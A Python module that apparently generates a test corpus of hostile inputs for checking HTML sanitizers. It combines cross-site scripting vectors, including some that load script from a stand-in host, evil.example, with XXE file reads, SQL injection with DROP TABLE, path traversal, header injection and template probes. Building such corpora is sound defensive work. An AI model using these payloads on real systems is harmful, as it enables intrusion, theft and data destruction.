"""What a hostile file, name or address could say: ways to run code, in ways to break out of where they are put."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from typing import Final

CODES: Final = (
    "pwn()",
    "top.pwn&&top.pwn()",
    "window['pw'+'n']()",
    "&#112;wn()",
    "setTimeout('pwn()')",
)
"""Calls of the canary; entities, names put together and strings as code get past filters of words."""

RUNNERS: Final = (
    "<script>{}</script>",
    "<script src=//evil.example/x.js></script><script>{}</script>",
    '<img src=x onerror="{}">',
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    '<svg><animate attributeName=x dur=1s onbegin="{}">',
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}">x</a>',
    '<a href="java&#9;script:{}" autofocus>x</a>',
    '<details open ontoggle="{}">x</details>',
    '<input autofocus onfocus="{}">',
    '<body onpageshow="{}">',
    '<object data="javascript:{}"></object>',
    '<form action="javascript:{}"><button autofocus>x</button></form>',
    '<base href="//evil.example/"><script>{}</script>',
    '<meta http-equiv=refresh content="0;url=javascript:{}">',
    '<style>@import "//evil.example/x.css";*{{background:url(//evil.example/i.png)}}</style><script>{}</script>',
    '<video src=x onerror="{}"></video>',
    "onmouseover={} style=position:fixed;inset:0 x=",
    "javascript:{}//",
)
"""Markup that runs its code as soon as a page lets it in."""

OPENERS: Final = (
    "",
    '">',
    "'>",
    "</script>",
    "</title>",
    "</textarea></option></select>",
    "</style></noscript></template>",
    "--><!--",
    "]]>",
    '"}}]}}</script>',
    "\u2028\u2029*/;",
)
"""Ends of what a payload may stand in: attribute, element, comment, CDATA, JSON, a line of code."""

SPECIAL: Final = (
    "{{7*7}}{% raw %}{{ self.__init__.__globals__ }}",
    "${pwn()}`${pwn()}`#{pwn()}<%= pwn() %>",
    "\\u003cscript\\u003epwn()\\u003c/script\\u003e",
    "&lt;script&gt;pwn()&lt;/script&gt;",
    "a\x00b\x01\x1b[31m\x7f\x85<script>pwn()</script>",
    "\u202egpj.\u2066cv\u2069\u200f\ufeff<img src=x onerror=pwn()>",
    "\ufffe\uffff\U0001f4a9\U000e0041<svg onload=pwn()>",
    '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
    '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "<listing>&lt;img src=1 onerror=pwn()&gt;</listing>",
    "<![CDATA[<script>pwn()</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "bundle:national",
    "' OR 1=1; DROP TABLE documents; --",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie:x=1",
    "[href] href=javascript:pwn()",
    "x" * 4000 + "<script>pwn()</script>",
    "\u0300" * 300 + "<b>",
    "\u0600\u0710\u202e" * 40,
)
"""What no rule makes: templates, encoded markup, control characters, markup that changes when it is parsed twice."""


def payloads() -> tuple[str, ...]:
    """All of them, each once, in a fixed order."""
    return tuple(dict.fromkeys(_payloads()))


def _payloads() -> Iterator[str]:
    yield from SPECIAL
    for opener, runner, code in product(OPENERS, RUNNERS, CODES):
        yield opener + runner.format(code)
